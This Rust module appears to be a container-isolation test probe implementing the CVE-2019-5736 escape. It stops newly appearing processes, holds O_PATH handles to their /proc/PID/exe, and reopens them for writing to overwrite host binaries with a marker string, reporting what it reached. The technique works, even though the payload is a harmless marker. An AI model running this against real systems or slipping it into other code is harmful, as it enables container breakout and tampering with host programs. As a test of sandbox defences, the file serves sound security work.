//! A hostile process in a container that overwrites the program of whatever appears beside it (CVE-2019-5736): by a handle
//! that stays valid when the program is not executed any more, and may be opened for writing then.

use std::collections::{BTreeMap, BTreeSet};
use std::fs::{self, File, OpenOptions};
use std::io::{self, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
use std::path::Path;

use nix::errno::Errno;
use nix::sys::signal::{Signal, kill};
use nix::unistd::Pid;
use serde::{Deserialize, Serialize};

use crate::process::Running;
use crate::scan::{READY, last_pid};

/// What was found at `/proc/PID/exe`, and what of it could be written to.
#[derive(Clone, Debug, Default, Serialize, Deserialize)]
pub struct Overwriting {
    /// Where the links lead.
    pub seen: BTreeSet<String>,
    /// Those that were written to.
    pub written: BTreeSet<String>,
}

impl Overwriting {
    /// Tells the process to end, and reads what it did.
    #[must_use]
    pub fn finish(process: Running, stop: &Path) -> Self {
        fs::write(stop, "").unwrap();
        let finished = process.wait().ok();
        let text = finished.stdout.strip_prefix(READY).unwrap_or_default();
        serde_json::from_str(text).unwrap_or_else(|error| panic!("{error}: {finished:#?}"))
    }
}

/// Tries until the file `stop` is there.
pub fn run(stop: &Path) -> io::Result<Overwriting> {
    let mut found = Overwriting::default();
    let mut held = BTreeMap::new();
    // The image's own are not what this is about.
    let own = [
        fs::metadata("/proc/self/exe")?.ino(),
        fs::metadata("/bin/busybox")?.ino(),
    ];
    let mut next = last_pid() + 1;
    print!("{READY}");
    io::stdout().flush()?;
    while !stop.exists() {
        for _ in 0..200 {
            next = next.max(last_pid());
            if kill(Pid::from_raw(next), Signal::SIGSTOP) != Err(Errno::ESRCH) {
                hold(next, &own, &mut found, &mut held);
                let _ = kill(Pid::from_raw(-1), Signal::SIGCONT);
                next += 1;
            }
        }
        for (link, handle) in held.values() {
            if overwrite(handle).is_ok() {
                found.written.insert(String::clone(link));
            }
        }
    }
    Ok(found)
}

fn hold(pid: i32, own: &[u64], found: &mut Overwriting, held: &mut BTreeMap<u64, (String, File)>) {
    let path = format!("/proc/{pid}/exe");
    let Ok(link) = fs::read_link(&path) else {
        return;
    };
    let link = link.display().to_string();
    let handle = OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_PATH)
        .open(&path);
    if let Ok(handle) = handle
        && let Ok(status) = handle.metadata()
        && !own.contains(&status.ino())
        && held.len() < 200
    {
        found.seen.insert(link.clone());
        held.insert(status.ino(), (link, handle));
    }
}

fn overwrite(handle: &File) -> io::Result<()> {
    let path = format!("/proc/self/fd/{}", handle.as_raw_fd());
    OpenOptions::new()
        .write(true)
        .open(path)?
        .write_all(b"overwritten")
}
